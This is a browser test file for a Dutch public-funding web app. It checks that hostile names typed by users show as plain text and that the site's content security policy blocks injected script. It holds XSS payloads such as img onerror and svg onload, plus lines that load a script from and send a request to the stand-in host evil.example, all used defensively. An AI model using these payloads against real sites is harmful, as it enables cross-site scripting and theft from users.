import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { typeAsApplicant, typeAsMinister, typeAsOfficer, typeOwnName } from './steps/hostile.mjs';
import { useBrowser } from './support/browser.mjs';
import { hostileNames, hostileText, marker } from './support/hostile-texts.mjs';
import { interfaceOf } from './support/interface.mjs';
import { people, signInAs } from './support/people.mjs';
import { placesOf } from './support/places.mjs';
import { visit } from './support/visit.mjs';

const roles = {
  public: null,
  applicant: people.applicant,
  reviewer: people.reviewers[0],
  officer: people.officer,
  minister: people.minister,
  administrator: people.administrator,
};
/** Each stands in one of the hostile names, and in a page only where the page shows that name as letters. */
const pieces = ['<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<script src=//evil.example/a.js>'];
/** Where somebody shows up who typed what they show: everybody but the reviewer reads at least one of the names. */
const readers = Object.keys(roles).filter((role) => role !== 'reviewer');

describe('hostile texts', () => {
  const undo = [];
  /** Pages that are there because of what was typed; the others are found as ever. */
  const places = { public: [], officer: [] };
  // Before the browser is closed, which is what the next line asks for.
  after(async () => {
    for (const step of undo) await step();
  });
  const browser = useBrowser();
  before(async () => {
    const open = async (name) => {
      const page = await browser.page();
      await signInAs(page, name);
      return interfaceOf(page);
    };
    const applicant = await typeAsApplicant(await open(people.applicant));
    const officer = await typeAsOfficer(await open(people.officer));
    places.public.push(['organisation', `/nl/organisaties/${applicant.enterpriseNumber}`]);
    places.officer.push(['call', `/nl/work/calls/${officer.callId}/edit`]);
    undo.push(applicant.undo, officer.undo, await typeAsMinister(await open(people.minister)));
    undo.push(await typeOwnName(await open(people.administrator)));
    // The register is recomputed a moment later.
    await new Promise((resolve) => setTimeout(resolve, 3_000));
  });

  for (const [role, name] of Object.entries(roles)) {
    test(`are letters on every page of ${role}, with the content policy taken away`, async () => {
      const page = await browser.page({ bypassCSP: true });
      if (name !== null) await signInAs(page, role === 'administrator' ? hostileNames[0] : name);
      const faults = [];
      const shown = new Set();
      const own = places[role] ?? [];
      for (const [, path] of [...(await placesOf(page, role, 'nl')), ...own]) {
        await visit(page, path);
        const { text, hasRun } = await page.evaluate(textsOf, marker);
        for (const piece of pieces) if (text.includes(piece)) shown.add(path);
        if (hasRun) faults.push(`${path}: a text ran`);
        for (const fault of page.faults.splice(0)) faults.push(`${path}: ${fault}`);
      }
      await page.context().close();
      assert.deepEqual(faults, []);
      if (readers.includes(role)) assert.ok(shown.size > 0, 'a hostile text was on some page');
      assert.deepEqual(
        own.filter(([, path]) => !shown.has(path)),
        [],
        'and on each that was made for it',
      );
    });
  }
});

describe('the content policy', () => {
  const browser = useBrowser();

  test('lets nothing run of what comes into a page unescaped, and asks nobody for it', async () => {
    const page = await browser.page();
    await page.route('**/nl/over', async (route) => {
      const response = await route.fetch();
      // Without the comment, which would hide what comes after it, and without the one thing that no policy can stop.
      const markup = hostileText.replace('<!--', '').replace(/<meta[^>]*>/, '');
      const body = (await response.text()).replace(/<main[^>]*>/, (start) => `${start}<div>${markup}</div>`);
      await route.fulfill({ response, body });
    });
    const reached = [];
    await page.route(/evil\.example/, (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await page.goto('/nl/over');
    // React takes it out again as soon as it runs; what it asked for until then is what counts.
    await page.waitForTimeout(1_000);
    assert.equal(await page.evaluate((name) => name in window, marker), false);
    assert.equal(new URL(page.url()).pathname, '/nl/over');
    assert.deepEqual(reached, []);
    assert.deepEqual(
      page.faults.filter((fault) => fault.startsWith('a dialog')),
      [],
    );
    for (const directive of ['script-src', 'img-src', 'style-src', 'base-uri']) {
      assert.ok(
        page.faults.some((fault) => fault.includes(`policy: ${directive}`)),
        `${directive} was said`,
      );
    }
    await page.context().close();
  });

  test('lets no script make markup or code of a text, load a script or send a form elsewhere', async () => {
    const page = await browser.page();
    await visit(page, '/nl');
    const outcomes = await page.evaluate(tryEverything, marker);
    assert.deepEqual(outcomes, {
      markup: 'emptied',
      code: 'refused',
      'code from a timer': 'without effect',
      'an address of a script': 'refused',
      'another policy': 'refused',
      'a script without the nonce': 'without effect',
      'a handler': 'without effect',
      'a request elsewhere': 'refused',
      'a frame': 'refused',
    });
    await page.context().close();
  });
});

/** Runs in the page: all letters that a reader sees, and whether something ran that should not. */
function textsOf(marker) {
  const fields = [...document.querySelectorAll('input, textarea')].map(({ value }) => value);
  return { text: [document.title, document.body.innerText, ...fields].join('\n'), hasRun: marker in window };
}

/** Runs in the page: what a script that got in by some other way would try next. Each leaves a mark where it runs. */
async function tryEverything(marker) {
  const pause = () => new Promise((resolve) => setTimeout(resolve, 200));
  // The debugger may do what the page may not, until the first pause.
  await pause();
  const outcomes = {};
  const attempt = async (what, work) => {
    const mark = `${marker}${Object.keys(outcomes).length}`;
    try {
      outcomes[what] = (await work(`window.${mark}=1`)) ?? 'done';
    } catch {
      outcomes[what] = 'refused';
    }
    await pause();
    if (mark in window) outcomes[what] = 'run';
    else if (outcomes[what] === 'done') outcomes[what] = 'without effect';
  };
  const holder = document.body.appendChild(document.createElement('div'));
  await attempt('markup', (code) => {
    holder.innerHTML = `<img src=x onerror="${code}">`;
    return holder.childNodes.length === 0 ? 'emptied' : 'done';
  });
  // biome-ignore lint/security/noGlobalEval: it is what must not work
  await attempt('code', (code) => void eval(code));
  await attempt('code from a timer', (code) => void setTimeout(code));
  await attempt('an address of a script', () => {
    document.createElement('script').src = 'https://evil.example/a.js';
  });
  await attempt('another policy', () => void window.trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
  await attempt('a script without the nonce', (code) => {
    const script = document.createElement('script');
    script.append(code);
    holder.append(script);
  });
  await attempt('a handler', (code) => {
    holder.setAttribute('onclick', code);
    holder.click();
  });
  await attempt('a request elsewhere', () => fetch('https://evil.example/').then(() => 'sent'));
  await attempt('a frame', async () => {
    const frame = holder.appendChild(document.createElement('iframe'));
    frame.src = '/nl';
    await pause();
    return frame.contentDocument?.body?.textContent ? 'shown' : 'refused';
  });
  return outcomes;
}
